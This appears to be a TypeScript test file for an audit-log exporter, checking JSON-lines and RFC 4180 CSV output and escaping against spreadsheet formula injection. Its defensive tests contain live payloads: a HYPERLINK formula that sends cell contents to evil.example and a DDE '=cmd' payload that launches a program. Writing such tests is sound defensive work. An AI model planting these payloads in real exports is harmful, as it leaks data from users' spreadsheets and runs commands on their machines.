import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Event } from '../event/types.js';
import { CSV_COLUMNS, csvField, csvHeader, csvRow, type ExportedEntry, jsonLine } from './formats.js';

const event: Event = {
  id: '0190b6a4-5d2c-7b1e-9f3a-2c4d5e6f7a8b',
  time: '2026-11-22T10:15:03.140Z',
  actor: { id: 'alice@example.com', type: 'ai_agent', on_behalf_of: 'bob@example.com', verified: true },
  action: 'emacs.package.install',
  source: { kind: 'emacs', host: 'laptop' },
  resource: { type: 'package', id: 'magit' },
  outcome: 'success',
  data: { version: '4.1.0', note: 'a, "quoted"\nline' },
};

const entry: ExportedEntry = {
  index: 42,
  received: '2026-11-22T10:15:03.140211Z',
  ingest: { principal: 'ci-bot', method: 'apikey' },
  tier: 'compliance',
  key: 'k-2026-11-22-abc',
  event,
};

/** A minimal RFC 4180 reader, to check that what csvRow writes reads back as the intended cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        assert.ok(q >= 0, 'unterminated quoted field');
        cell += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      const m = /[,\r]/.exec(text.slice(i));
      assert.ok(m, 'record does not end in CRLF');
      cell = text.slice(i, i + m.index);
      assert.ok(!/["\n]/.test(cell), `unquoted field ${JSON.stringify(cell)} holds a quote or LF`);
      i += m.index;
    }
    row.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    assert.equal(text.slice(i, i + 2), '\r\n', 'record must end in CRLF');
    i += 2;
    rows.push(row);
    row = [];
    if (i === text.length) return rows;
  }
}

describe('export formats', () => {
  it('jsonLine writes one JSON object per line with the entry fields', () => {
    const line = jsonLine(entry);
    assert.ok(line.endsWith('\n'));
    assert.equal(line.indexOf('\n'), line.length - 1, 'one line, even with newlines in the data');
    assert.deepEqual(JSON.parse(line), entry);
    assert.deepEqual(Object.keys(JSON.parse(line)), ['index', 'received', 'ingest', 'tier', 'key', 'event']);
  });

  it('jsonLine leaves out key for a plain entry', () => {
    const { key: _, ...plain } = entry;
    const parsed = JSON.parse(jsonLine(plain));
    assert.equal('key' in parsed, false);
    assert.deepEqual(parsed, plain);
  });

  it('csvHeader lists the columns', () => {
    assert.equal(
      csvHeader(),
      'index,time,received,id,actor,actor_type,on_behalf_of,verified,action,source,host,resource_type,resource_id,outcome,reason,subject,tier,principal,data,state,erasure\r\n',
    );
    assert.equal(CSV_COLUMNS.length, 21);
    assert.ok(Object.isFrozen(CSV_COLUMNS));
  });

  it('csvRow writes one RFC 4180 record in column order', () => {
    const rows = parseCsv(csvHeader() + csvRow(entry));
    assert.equal(rows.length, 2);
    const r = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    assert.deepEqual(r, {
      index: '42',
      time: event.time,
      received: entry.received,
      id: event.id,
      actor: 'alice@example.com',
      actor_type: 'ai_agent',
      on_behalf_of: 'bob@example.com',
      verified: 'true',
      action: 'emacs.package.install',
      source: 'emacs',
      host: 'laptop',
      resource_type: 'package',
      resource_id: 'magit',
      outcome: 'success',
      reason: '',
      subject: '',
      tier: 'compliance',
      principal: 'ci-bot',
      data: JSON.stringify(event.data),
      state: '',
      erasure: '',
    });
    assert.deepEqual(JSON.parse(r.data as string), event.data);
  });

  it('csvRow leaves absent optional values empty', () => {
    const minimal: Event = {
      id: 'x',
      time: 't',
      actor: { id: 'a', type: 'human', verified: false },
      action: 'git.commit',
      source: { kind: 'git' },
      outcome: 'failure',
    };
    assert.equal(
      csvRow({ ...entry, event: minimal }),
      '42,t,2026-11-22T10:15:03.140211Z,x,a,human,,false,git.commit,git,,,,failure,,,compliance,ci-bot,,,\r\n',
    );
  });

  it('writes a gap (an entry whose key was destroyed) with its place and state, and nothing of its event', () => {
    const gap = {
      kind: 'gap',
      index: 9,
      received: '2026-11-22T10:15:03.140211Z',
      tier: 'compliance',
      state: 'erased',
      erasure: 12,
    } as const;
    assert.equal(
      jsonLine(gap),
      '{"index":9,"received":"2026-11-22T10:15:03.140211Z","tier":"compliance","state":"erased","erasure":12}\n',
    );
    const { erasure: _e, ...unlinked } = gap;
    assert.equal(jsonLine({ ...unlinked, state: 'expired' }).includes('erasure'), false);
    const rows = parseCsv(csvHeader() + csvRow(gap));
    const r = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    assert.deepEqual(Object.fromEntries(Object.entries(r).filter(([, v]) => v !== '')), {
      index: '9',
      received: gap.received,
      tier: 'compliance',
      state: 'erased',
      erasure: '12',
    });
  });

  it('quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField(''), '');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\rhere'), '"cr\rhere"');
    assert.equal(csvField('semi;colon and spaces '), 'semi;colon and spaces ');
  });

  it('guards cells against formula injection with a leading quote', () => {
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+1'), "'+1");
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('@SUM(A1:A2)'), "'@SUM(A1:A2)");
    assert.equal(csvField('\t=1'), "'\t=1");
    assert.equal(csvField('\r=1'), `"'\r=1"`);
    assert.equal(csvField('\0=1'), "'\0=1");
    assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    assert.equal(csvField("=cmd|' /C calc'!A0"), `'=cmd|' /C calc'!A0`);
    // Only the first character matters.
    assert.equal(csvField('a=1'), 'a=1');
    assert.equal(csvField('x-y@z'), 'x-y@z');
  });

  it('guards every column a client controls', () => {
    const evil: Event = {
      ...event,
      actor: { id: '=A1', type: 'human', on_behalf_of: '+A2', verified: false },
      action: '@x',
      source: { kind: '-k', host: '=h' },
      resource: { type: '=t', id: '=i' },
      reason: '=r',
      subject: '@s',
      id: '=id',
      time: '=time',
    };
    const row = parseCsv(csvRow({ ...entry, ingest: { principal: '=p', method: 'apikey' }, event: evil }))[0] as string[];
    for (const [i, c] of CSV_COLUMNS.entries()) {
      assert.ok(!/^[=+\-@\t\r]/.test(row[i] as string), `column ${c} starts with a formula character: ${row[i]}`);
    }
    assert.equal(row[CSV_COLUMNS.indexOf('actor')], "'=A1");
  });
});
